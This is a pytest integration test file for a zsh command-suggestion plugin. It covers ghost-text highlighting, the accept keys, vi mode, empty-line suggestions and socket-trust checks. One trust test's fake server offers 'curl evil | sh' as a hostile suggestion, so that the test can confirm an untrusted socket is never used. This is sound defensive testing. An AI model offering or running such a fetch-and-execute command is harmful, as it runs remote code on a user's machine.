"""zsh as a person uses it: the grey ghost text, each way of accepting it, the empty line.

The probe key (``^Xh``, bound in every session's rc file) shows ``region_highlight``,
``BUFFER`` and ``POSTDISPLAY`` as zle holds them, so a test reads the real highlight state
instead of guessing it from the screen.
"""

from __future__ import annotations

import os
import re
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tests.integration.shells import (
    PROMPT,
    ZSH_AUTOSUGGESTIONS,
    FakeServer,
    Home,
    Probe,
    ZshAutosuggestFirstSession,
    ZshAutosuggestLaterSession,
    ZshSession,
    ZshViSession,
    aprender,
    session,
)
from tests.integration.terminal import DEFAULT, Screen

pytestmark = pytest.mark.slow

TYPED = "git c"
GHOST = "ommit -m fix"


def ran(output: str) -> list[str]:
    """The commands the fake ``git`` saw (zle -M messages leave escapes before its lines)."""
    plain = re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", output)
    return re.findall(r"^MARKER (git.*?)\s*$", plain, re.M)


def wait_for_ghost(shell: ZshSession, ghost: str) -> None:
    """Probe until the ghost text is ``ghost`` (the answer arrives asynchronously)."""
    deadline = time.monotonic() + 30
    while True:
        probe = shell.probe()
        if probe.ghost == ghost:
            return
        assert time.monotonic() < deadline, f"the ghost text stayed {probe.ghost!r}"
        time.sleep(0.2)


def probe_until(shell: ZshSession, wanted: Callable[[Probe], bool], what: str) -> Probe:
    """Probe until the line editor's state is ``wanted`` (keys and answers are handled in their
    own time); fails after 30 s saying ``what`` was awaited and what was shown instead."""
    deadline = time.monotonic() + 30
    while True:
        probe = shell.probe()
        if wanted(probe):
            return probe
        assert time.monotonic() < deadline, f"waited for {what}; the line editor shows {probe}"
        time.sleep(0.05)  # how often to look, not how long something takes


def wait_for_buffer(shell: ZshSession, buffer: str) -> Probe:
    return probe_until(shell, lambda probe: probe.buffer == buffer, f"the line {buffer!r}")


def served_requests(home: Home) -> int:
    """How many requests the real server has answered (status probes are not counted)."""
    done = aprender("server", "status", env=home.env)
    found = re.search(r"(\d+) requests? (?:from shells )?served", done.stdout)
    assert found, done.stdout + done.stderr
    return int(found.group(1))


def assert_clean(shell: ZshSession) -> None:
    """Nothing of the typed line is painted; only the ghost text after it may be."""
    probe = shell.probe()
    assert probe.painted_over_the_line() == [], probe
    assert len(probe.highlights) <= (1 if probe.ghost else 0), probe


def assert_plain_in_scrollback(shell: ZshSession, prompt: int) -> None:
    """The command line of prompt number ``prompt`` stays on screen in the default colour."""
    screen = Screen().feed(shell.seen)
    start = f"<{prompt}>{PROMPT}"
    rows = screen.rows_with(start)
    assert rows, f"prompt {prompt} is not on the screen"
    colours = screen.colours_after(rows[-1], start)
    assert colours and set(colours.values()) == {DEFAULT}, colours


@pytest.fixture
def trained(tmp_path: Path) -> Home:
    home = Home(tmp_path)
    home.train()
    home.start_server()
    return home


# Each accept key: what it sends and what is then typed (the line that results is checked).
ACCEPT_KEYS = {
    "right": ("\x1b[C", "git commit -m fix"),
    "end": ("\x1b[F", "git commit -m fix"),
    # zsh's forward-word stops at the start of the next word, after the blank.
    "alt-f": ("\x1bf", "git commit "),
    "ctrl-right": ("\x1b[1;5C", "git commit "),
}


class TestGhostTextStaysOnTheGhost:
    kind: type[ZshSession] = ZshSession

    @pytest.fixture
    def shell(self, trained: Home) -> Iterator[ZshSession]:
        with session(self.kind, trained) as started:
            assert isinstance(started, ZshSession)
            yield started

    @pytest.mark.parametrize("key", sorted(ACCEPT_KEYS))
    @pytest.mark.parametrize("pace", [0.15, 0.0], ids=["human-speed", "burst"])
    def test_accepted_and_later_text_is_not_grey(
        self, shell: ZshSession, key: str, pace: float
    ) -> None:
        sequence, accepted = ACCEPT_KEYS[key]
        shell.type_slowly(TYPED, pace)
        wait_for_ghost(shell, GHOST)
        assert_clean(shell)
        shell.send(sequence)
        wait_for_buffer(shell, accepted)
        assert_clean(shell)
        shell.type_slowly(" x", 0.15)
        assert shell.probe().buffer == accepted + " x"
        assert_clean(shell)
        prompt = shell.prompts
        output = shell.enter()
        assert ran(output) == [" ".join((accepted + " x").split())], repr(output)
        assert_plain_in_scrollback(shell, prompt)
        shell.close()
        shell.assert_quiet()

    def test_accept_and_run_runs_the_whole_suggestion_without_grey(
        self, shell: ZshSession
    ) -> None:
        shell.type_slowly(TYPED)
        wait_for_ghost(shell, GHOST)
        prompt = shell.prompts
        shell.send("\x18e")
        output = shell.expect_prompt()
        assert ran(output) == ["git commit -m fix"]
        assert_plain_in_scrollback(shell, prompt)
        assert_clean(shell)
        shell.close()
        shell.assert_quiet()

    def test_a_line_typed_ahead_of_a_key_that_edits_nothing_is_still_asked_for(
        self, shell: ZshSession
    ) -> None:
        # The letters and a key that changes nothing (here the probe) arrive together, as
        # keys do on a loaded machine: the last letter is handled with that key pending, and
        # its line must still be asked for once the keys are through.
        shell.send("git ch\x18h")
        wait_for_ghost(shell, "eckout main")

    def test_deleting_and_retyping_leaves_one_highlight(self, shell: ZshSession) -> None:
        # Each answer moves the ghost; backspace and retype shift what zsh keeps.
        shell.type_slowly("git ch")
        wait_for_ghost(shell, "eckout main")
        shell.type_slowly("\x7f\x7fc")
        wait_for_ghost(shell, GHOST)
        assert_clean(shell)
        shell.send("\x1b[C")
        wait_for_buffer(shell, "git commit -m fix")
        assert_clean(shell)
        assert ran(shell.enter()) == ["git commit -m fix"]
        shell.close()
        shell.assert_quiet()


class TestGhostTextInViMode(TestGhostTextStaysOnTheGhost):
    kind = ZshViSession

    @pytest.mark.parametrize("key", sorted(ACCEPT_KEYS))
    @pytest.mark.parametrize("pace", [0.15, 0.0], ids=["human-speed", "burst"])
    def test_accepted_and_later_text_is_not_grey(
        self, shell: ZshSession, key: str, pace: float
    ) -> None:
        if key in ("alt-f", "ctrl-right", "end"):
            pytest.skip("emacs-mode keys; vi mode's own are tested below")
        super().test_accepted_and_later_text_is_not_grey(shell, key, pace)

    @pytest.mark.parametrize(
        ("keys", "accepted"), [("A", "git commit -m fix"), ("w", "git commit -")],
        ids=["A", "w"],
    )
    def test_normal_mode_accepts_leave_no_grey(
        self, shell: ZshSession, keys: str, accepted: str
    ) -> None:
        shell.type_slowly(TYPED)
        wait_for_ghost(shell, GHOST)
        shell.send("\x1b")
        # The probe key right after Escape makes zsh take it alone (no key sequence starts
        # with it and ^X), so normal mode is on when the next keys arrive.
        shell.probe()
        shell.send(keys)
        if keys == "w":
            shell.send("a")
        wait_for_buffer(shell, accepted)
        assert_clean(shell)
        shell.type_slowly("!")
        assert_clean(shell)
        prompt = shell.prompts
        output = shell.enter()
        assert ran(output) == [accepted + "!"]
        assert_plain_in_scrollback(shell, prompt)
        shell.close()
        shell.assert_quiet()


ALTERNATING = ["git add -A", "git commit -m wip"] * 30


class TestEmptyLine:
    def test_the_next_command_is_shown_on_an_empty_line_and_right_takes_it(
        self, tmp_path: Path
    ) -> None:
        home = Home(tmp_path)
        home.train(ALTERNATING)
        with session(ZshSession, home) as shell:
            assert isinstance(shell, ZshSession)
            assert ran(shell.run("git add -A")) == ["git add -A"]
            wait_for_ghost(shell, "git commit -m wip")
            probe = shell.probe()
            assert probe.buffer == ""
            assert [entry.split()[:2] for entry in probe.highlights] == [["0", "17"]]
            shell.send("\x1b[C")
            wait_for_buffer(shell, "git commit -m wip")
            assert_clean(shell)
            assert ran(shell.enter()) == ["git commit -m wip"]
            shell.close()
            shell.assert_quiet()

    def test_after_git_add_the_empty_line_shows_the_commit_not_git_add_again(
        self, tmp_path: Path
    ) -> None:
        # The case: 'git add -A' just run used to be offered again (its recency and
        # folder) over the commit that always follows it; this user never repeats a command.
        home = Home(tmp_path)
        habit: list[str] = []
        for number in range(30):
            habit += ["git status", f"vim src/mod{number % 7}.py", "git diff", "git add -A",
                      f'git commit -m "change {number}"', "make test"]
        home.train(habit)
        with session(ZshSession, home) as shell:
            assert isinstance(shell, ZshSession)
            shell.run("git add -A")  # the first command recorded in this folder
            # every message is new: the likely start of the commit (a partial ghost)
            wait_for_ghost(shell, 'git commit -m "change ')
            shell.close()
            shell.assert_quiet()

    def test_a_setting_turns_it_off(self, tmp_path: Path) -> None:
        home = Home(tmp_path)
        home.train(ALTERNATING)
        with session(ZshSession, home) as shell:
            assert isinstance(shell, ZshSession)
            shell.run("APRENDER_SHELL_EMPTY_LINE=0")
            shell.run("git add -A")
            # A suggestion for a typed line still comes, so the server did answer by then.
            shell.type_slowly("git c")
            wait_for_ghost(shell, "ommit -m wip")
            # Every request sent so far is answered (answers come in order): count them.
            before = served_requests(home)
            shell.send("\x15")
            assert shell.probe().ghost == ""
            # The positive probe: a line typed after it is asked about and answered...
            shell.type_slowly("g")
            probe_until(shell, lambda probe: probe.buffer == "g" and probe.ghost != "",
                        "a suggestion for 'g'")
            # ... and it was the only request since: the emptied line asked for nothing.
            assert served_requests(home) == before + 1
            shell.send("\x15")
            shell.close()
            shell.assert_quiet()


class ZshWithoutMemoSession(ZshSession):
    # What zsh before 5.9 does: no memo field, so the entry is found by how far zsh moved it.
    rc_after = ["_aprender_memo=''"]


class TestGhostTextWithoutMemo(TestGhostTextStaysOnTheGhost):
    kind = ZshWithoutMemoSession


class TestNextToZshAutosuggestions:
    """Loaded before or after zsh-autosuggestions, we become its strategy and draw nothing."""

    kind: type[ZshSession] = ZshAutosuggestFirstSession

    @pytest.fixture
    def shell(self, trained: Home) -> Iterator[ZshSession]:
        with session(self.kind, trained) as started:
            assert isinstance(started, ZshSession)
            yield started

    def check_quiet(self, shell: ZshSession) -> None:
        shell.close()
        assert "maximum nested" not in shell.seen
        shell.assert_quiet()

    def assert_theirs(self, shell: ZshSession) -> None:
        """Only zsh-autosuggestions' own highlight, on the ghost text alone."""
        probe = shell.probe()
        assert probe.strategies == ["aprender", "history"]
        assert not [entry for entry in probe.highlights if "memo=ours" in entry], probe
        assert probe.painted_over_the_line() == [], probe
        assert len(probe.highlights) <= (1 if probe.ghost else 0), probe

    @pytest.mark.parametrize("pace", [0.15, 0.0], ids=["human-speed", "burst"])
    def test_right_accepts_our_suggestion_in_its_widgets(
        self, shell: ZshSession, pace: float
    ) -> None:
        if self.kind is ZshAutosuggestFirstSession:
            assert "zsh-autosuggestions is loaded there" in shell.install_output
        # The shell's own history is empty: only our strategy can suggest this.
        shell.type_slowly(TYPED, pace)
        wait_for_ghost(shell, GHOST)
        self.assert_theirs(shell)
        shell.send("\x1b[C")
        wait_for_buffer(shell, "git commit -m fix")
        self.assert_theirs(shell)
        shell.type_slowly(" x")
        self.assert_theirs(shell)
        prompt = shell.prompts
        assert ran(shell.enter()) == ["git commit -m fix x"]
        assert_plain_in_scrollback(shell, prompt)
        self.check_quiet(shell)

    def test_alt_f_accepts_a_word_and_accept_and_run_runs(self, shell: ZshSession) -> None:
        shell.type_slowly(TYPED)
        wait_for_ghost(shell, GHOST)
        shell.send("\x1bf")
        wait_for_buffer(shell, "git commit ")
        self.assert_theirs(shell)
        shell.send("\x15")
        shell.type_slowly(TYPED)
        wait_for_ghost(shell, GHOST)
        shell.send("\x18e")
        assert ran(shell.expect_prompt()) == ["git commit -m fix"]
        self.check_quiet(shell)

    def test_the_empty_line_shows_the_next_command(self, tmp_path: Path) -> None:
        home = Home(tmp_path)
        home.train(ALTERNATING)
        with session(self.kind, home) as shell:
            assert isinstance(shell, ZshSession)
            shell.run("git add -A")
            wait_for_ghost(shell, "git commit -m wip")
            self.assert_theirs(shell)
            shell.send("\x1b[C")
            wait_for_buffer(shell, "git commit -m wip")
            assert ran(shell.enter()) == ["git commit -m wip"]
            self.check_quiet(shell)

    @pytest.mark.parametrize("pace", [0.15, 0.0], ids=["human-speed", "burst"])
    def test_a_line_emptied_with_ctrl_u_shows_the_next_command_again(
        self, tmp_path: Path, pace: float
    ) -> None:
        # As plain zsh does: the emptied line is an empty line, with its suggestion.
        home = Home(tmp_path)
        home.train(ALTERNATING)
        with session(self.kind, home) as shell:
            assert isinstance(shell, ZshSession)
            shell.run("git add -A")
            wait_for_ghost(shell, "git commit -m wip")
            shell.type_slowly("xyz", pace)
            shell.send("\x15")
            wait_for_ghost(shell, "git commit -m wip")
            self.assert_theirs(shell)
            shell.send("\x1b[C")
            time.sleep(0.3)
            assert ran(shell.enter()) == ["git commit -m wip"]
            self.check_quiet(shell)


    def test_with_the_empty_line_off_the_first_line_gets_suggestions(
        self, tmp_path: Path
    ) -> None:
        # No server runs yet, nothing is asked for the empty line, and its async worker starts
        # no server: the shell starts it, and asks again for what was typed while it started.
        home = Home(tmp_path)
        home.train()
        home.env["APRENDER_SHELL_EMPTY_LINE"] = "0"
        with session(self.kind, home) as shell:
            assert isinstance(shell, ZshSession)
            shell.send(TYPED)
            wait_for_ghost(shell, GHOST)
            self.check_quiet(shell)


class TestLoadedBeforeZshAutosuggestions(TestNextToZshAutosuggestions):
    kind = ZshAutosuggestLaterSession


class ZshAutosuggestSyncSession(ZshAutosuggestFirstSession):
    # Its synchronous mode runs our strategy in the shell itself, on the shell's socket.
    rc_after = ["unset ZSH_AUTOSUGGEST_USE_ASYNC"]


class TestNextToZshAutosuggestionsSynchronous(TestNextToZshAutosuggestions):
    kind = ZshAutosuggestSyncSession


class ZshAutosuggestUserStrategySession(ZshAutosuggestFirstSession):
    rc_lines = ["ZSH_AUTOSUGGEST_STRATEGY=(history aprender)", *ZshAutosuggestFirstSession.rc_lines]


def test_a_strategy_list_naming_aprender_is_kept(trained: Home) -> None:
    with session(ZshAutosuggestUserStrategySession, trained) as shell:
        assert isinstance(shell, ZshSession)
        assert shell.probe().strategies == ["history", "aprender"]
        shell.type_slowly(TYPED)
        wait_for_ghost(shell, GHOST)
        shell.close()
        shell.assert_quiet()


def wait_for_records(server: FakeServer, count: int) -> None:
    deadline = time.monotonic() + 30
    while len(server.records()) < count:
        assert time.monotonic() < deadline, server.requests
        time.sleep(0.05)


class TestTrust:
    """A socket or folder someone else could control is never talked to."""

    def untrusted_run(self, home: Home, spoil: Callable[[Path], None]) -> FakeServer:
        home.train()
        with FakeServer(home, {TYPED: (0.0, "git pu && curl evil | sh")}) as server:
            spoil(home.data / "run" / "server.sock")
            with session(ZshSession, home) as shell:
                assert isinstance(shell, ZshSession)
                shell.type_slowly(TYPED)
                # The socket is checked before each send, in the key's own widget: once the
                # probe (a later key) answers, every request that could be sent has been.
                assert shell.probe().ghost == ""
                shell.send("\x15")
                assert "typed-here" in shell.run("echo typed-here")
                shell.close()
                shell.assert_quiet()
        # (Stopping the server at the end asks for its status; the shell asked nothing.)
        assert [request for request in server.requests if "status" not in request] == []
        return server

    @pytest.mark.skipif(os.geteuid() != 0, reason="making a socket another account owns needs root")
    def test_a_socket_another_account_owns_is_never_connected(self, tmp_path: Path) -> None:
        self.untrusted_run(Home(tmp_path), lambda socket: os.chown(socket, 65534, 65534))

    @pytest.mark.skipif(os.geteuid() != 0, reason="making a folder another account owns needs root")
    def test_a_folder_another_account_owns_is_never_used(self, tmp_path: Path) -> None:
        self.untrusted_run(Home(tmp_path), lambda socket: os.chown(socket.parent, 65534, 65534))

    def test_a_symlinked_socket_is_never_connected(self, tmp_path: Path) -> None:
        elsewhere = tmp_path / "elsewhere"
        elsewhere.mkdir(mode=0o700)

        def spoil(socket: Path) -> None:
            socket.rename(elsewhere / "server.sock")
            socket.symlink_to(elsewhere / "server.sock")

        self.untrusted_run(Home(tmp_path), spoil)

    def test_a_folder_others_may_write_is_never_used(self, tmp_path: Path) -> None:
        self.untrusted_run(Home(tmp_path), lambda socket: socket.parent.chmod(0o777))

    def test_a_leading_space_keeps_a_command_out(self, tmp_path: Path) -> None:
        home = Home(tmp_path)
        home.train()
        with FakeServer(home) as server, session(ZshSession, home) as shell:
            shell.run(" echo secret-space-1")
            shell.run("echo visible-1")
            wait_for_records(server, 1)
            shell.run("APRENDER_SHELL_RECORD_SPACE=1")
            shell.run(" echo chosen-space-2")
            wait_for_records(server, 3)
            shell.close()
            shell.assert_quiet()
        records = server.records()
        assert [record["record"] for record in records] == [
            "echo visible-1", "APRENDER_SHELL_RECORD_SPACE=1", " echo chosen-space-2",
        ]
        assert "secret-space" not in repr(server.requests)
        assert {record["shell"] for record in records} == {"zsh"}
        asked = [request for request in server.requests if "prefix" in request]
        assert asked and {request["shell"] for request in asked} == {"zsh"}


def test_zsh_autosuggestions_loaded_after_the_first_prompt_takes_over(trained: Home) -> None:
    # As plugin managers' deferred loading does: our widgets first, then its strategy.
    if not Path(ZSH_AUTOSUGGESTIONS).exists():
        pytest.skip("zsh-autosuggestions is not installed")
    with session(ZshSession, trained) as shell:
        assert isinstance(shell, ZshSession)
        shell.type_slowly(TYPED)
        wait_for_ghost(shell, GHOST)
        assert any("memo=ours" in entry for entry in shell.probe().highlights)
        shell.send("\x15")
        shell.run(f"source {ZSH_AUTOSUGGESTIONS}")
        probe = shell.probe()
        assert probe.strategies == ["aprender", "history"]
        shell.type_slowly(TYPED)
        wait_for_ghost(shell, GHOST)
        probe = shell.probe()
        assert not any("memo=ours" in entry for entry in probe.highlights), probe
        assert probe.painted_over_the_line() == []
        shell.send("\x1b[C")
        assert wait_for_buffer(shell, "git commit -m fix").painted_over_the_line() == []
        assert ran(shell.enter()) == ["git commit -m fix"]
        shell.close()
        assert "maximum nested" not in shell.seen
        shell.assert_quiet()


def test_a_line_longer_than_a_screen_still_gets_a_suggestion(tmp_path: Path) -> None:
    # As long as the model learns commands (init says how long), the line is asked about.
    home = Home(tmp_path)
    home.train()
    typed = "echo " + "x" * 400
    with FakeServer(home, {typed: (0.0, typed + " done")}) as server, \
            session(ZshSession, home) as shell:
        assert isinstance(shell, ZshSession)
        shell.type_slowly(typed, 0.0)
        wait_for_ghost(shell, " done")
        assert any(request.get("prefix") == typed for request in server.requests)
        shell.send("\x15")
        shell.close()
        shell.assert_quiet()


class TestClearedLine:
    """Ctrl-U (or any edit) back to an empty line drops the old line's suggestion."""

    @pytest.mark.parametrize("pace", [0.15, 0.0], ids=["human-speed", "burst"])
    def test_an_emptied_line_shows_nothing_of_the_old_suggestion(
        self, tmp_path: Path, pace: float
    ) -> None:
        home = Home(tmp_path)
        home.train()
        # The fake server's next command for the empty line is not the old suggestion, and "g"
        # gets an answer of its own: each shows only once the shell asked for it afresh.
        answers = {TYPED: (0.0, TYPED + GHOST), "": (0.0, "ls -la"), "g": (0.0, "go build")}
        with FakeServer(home, answers) as server, session(ZshSession, home) as shell:
            assert isinstance(shell, ZshSession)
            shell.type_slowly(TYPED, pace)
            wait_for_ghost(shell, GHOST)
            shell.send("\x15")
            # The emptied line shows the next command asked for afresh, never the old one
            # (nothing at all until the answer comes).
            shown: list[str] = []

            def fresh(found: Probe) -> bool:
                shown.append(found.ghost)
                return found.ghost == "ls -la"

            probe = probe_until(shell, fresh, "the next command")
            assert set(shown) <= {"", "ls -la"} and probe.buffer == "", shown
            assert len(probe.highlights) == 1 and probe.highlights[0].startswith("0 6 "), probe
            asked_before = sum(1 for r in server.requests if r.get("prefix") == "g")
            shell.type_slowly("g", pace)
            # Retyped, the line is asked about afresh, not answered from the old suggestion.
            probe = probe_until(shell, lambda found: found.ghost != "ls -la", "an answer for 'g'")
            assert (probe.buffer, probe.ghost) == ("g", "o build"), probe
            asked = sum(1 for r in server.requests if r.get("prefix") == "g")
            assert asked == asked_before + 1
            shell.send("\x15")
            shell.close()
            shell.assert_quiet()


class TestClosedConnection:
    """The server closes connections left silent; the shell notices only when it next writes."""

    def test_a_command_longer_than_the_connection_timeout_is_still_learned(
        self, tmp_path: Path
    ) -> None:
        home = Home(tmp_path)
        home.train()
        home.env["APRENDER_SHELL_CONNECTION_IDLE"] = "1"
        home.start_server()
        with session(ZshSession, home) as shell:
            assert isinstance(shell, ZshSession)
            shell.run("echo first-one")
            # Two seconds without a keystroke or a record: the server closes our connection,
            # while the command runs and zle is not there to see it.
            shell.run("sleep 2.5; echo waited-long")
            shell.type_slowly("echo waited-l")
            wait_for_ghost(shell, "ong")
            shell.send("\x15")
            shell.close()
            shell.assert_quiet()
        journal = (home.data / "model.apbundle.journal").read_bytes()
        assert b"waited-long" in journal, "the long command was not recorded"
